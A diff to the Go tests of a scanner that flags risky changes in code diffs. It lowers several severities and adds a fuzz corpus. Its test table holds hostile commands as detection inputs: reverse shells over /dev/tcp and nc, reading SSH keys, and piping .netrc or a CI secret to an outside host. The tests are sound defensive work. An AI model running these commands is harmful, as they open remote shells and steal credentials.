@@ -39,8 +39,8 @@ func TestScanAttentionFixtures(t *testing.T) {
 		want []string
 	}{
 		{"workflow.diff", []string{
-			"high ci-file .github/workflows/ci.yml:0 CI workflow changed",
 			"high execute .github/workflows/ci.yml:13 expands untrusted pull-request text into a command (script injection)",
+			"medium ci-file .github/workflows/ci.yml:0 CI workflow changed",
 		}},
 		// One item for the Makefile and one for its risky line, not one per line.
 		{"makefile-curl-sh.diff", []string{
@@ -62,8 +62,8 @@ func TestScanAttentionFixtures(t *testing.T) {
 			"medium script scripts/bootstrap.sh:0 shell script added",
 		}},
 		{"token.diff", []string{
-			"high credential tools/release/notify.py:11 names a CI token",
-			"high credential tools/release/notify.py:12 holds what looks like a live token",
+			"high credential tools/release/notify.py:11 reads a CI token",
+			// AKIA...EXAMPLE... is the shape of AWS's documented example key, not a live one.
 		}},
 		{"bidi.diff", []string{
 			"high hidden-unicode internal/auth/check.go:5 bidirectional-control characters reorder what you see (Trojan Source)",
@@ -77,14 +77,14 @@ func TestScanAttentionFixtures(t *testing.T) {
 		{"docs-only.diff", nil},
 		// Removing a CI check matters, but nothing of it runs any more.
 		{"deleted-ci.diff", []string{
-			"medium ci-file .github/workflows/lint.yml:0 CI workflow deleted",
+			"low ci-file .github/workflows/lint.yml:0 CI workflow deleted",
 		}},
 		{"dependencies.diff", []string{
 			"medium dependency go.mod:7 go.mod replace directive points a module elsewhere",
 			"medium dependency requirements-dev.txt:3 installs from another package index or a git URL",
-			"medium ci-file tools/old-release.yml:0 CI workflow renamed away",
 			"low dependency go.mod:0 Go module requirements changed",
 			"low dependency requirements-dev.txt:0 dependency manifest changed",
+			"low ci-file tools/old-release.yml:0 CI workflow renamed away",
 		}},
 	}
 	for _, tt := range tests {
@@ -164,12 +164,15 @@ func TestScanAttentionLines(t *testing.T) {
 		{"x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "high network"},
 		{"x.sh", "nc -e /bin/sh 10.0.0.1 4444", "high network"},
 		// credentials
-		{".github/workflows/ci.yml", "token: ${{ secrets.DEPLOY_TOKEN }}", "high credential"},
+		// A secret passed to a step as a with:/env: value is how secrets are
+		// meant to be used; expanded in run: next to curl it is sent away.
+		{".github/workflows/ci.yml", "token: ${{ secrets.DEPLOY_TOKEN }}", "medium credential"},
+		{".github/workflows/ci.yml", `run: curl -d "${{ secrets.DEPLOY_TOKEN }}" https://x.invalid`, "high credential"},
 		{".github/workflows/ci.yml", "on: pull_request_target", "high ci-file"},
 		{".github/workflows/ci.yml", "permissions: write-all", "high ci-file"},
 		{"x.sh", "cat ~/.ssh/id_rsa", "high credential"},
 		{"x.sh", "tar czf - $HOME/.netrc | nc x.invalid 9", "high credential"},
-		{"x.sh", `curl -H "Authorization: Bearer $T" https://x.invalid`, "high credential"},
+		{"x.sh", `curl -H "Authorization: Bearer $T" https://x.invalid`, "medium download"},
 		{"x.sh", "printenv > /tmp/e", "high credential"},
 		{"key.pem", "-----BEGIN OPENSSH PRIVATE KEY-----", "high credential"},
 		{"x.sh", "export NPM_TOKEN=abc", "high credential"},
@@ -227,8 +230,8 @@ func TestScanAttentionPaths(t *testing.T) {
 	tests := []struct {
 		path, want string // want: "severity kind title" of the file item, "" for none
 	}{
-		{".github/workflows/release.yaml", "high ci-file CI workflow changed"},
-		{".github/actions/setup/action.yml", "high ci-file GitHub Action changed"},
+		{".github/workflows/release.yaml", "medium ci-file CI workflow changed"},
+		{".github/actions/setup/action.yml", "medium ci-file GitHub Action changed"},
 		{".gitlab-ci.yml", "high ci-file GitLab CI config changed"},
 		{".circleci/config.yml", "high ci-file CircleCI config changed"},
 		{"Jenkinsfile", "high ci-file Jenkinsfile changed"},
@@ -452,6 +455,8 @@ func checkAttentionInvariants(t *testing.T, d *Diff, items []Attention) {
 
 func FuzzScanAttention(f *testing.F) {
 	names, _ := filepath.Glob(filepath.Join("testdata", "attention", "*.diff"))
+	corpus, _ := filepath.Glob(filepath.Join("testdata", "attention", "corpus", "*", "*.diff"))
+	names = append(names, corpus...)
 	for _, name := range names {
 		data, err := os.ReadFile(name)
 		if err != nil {
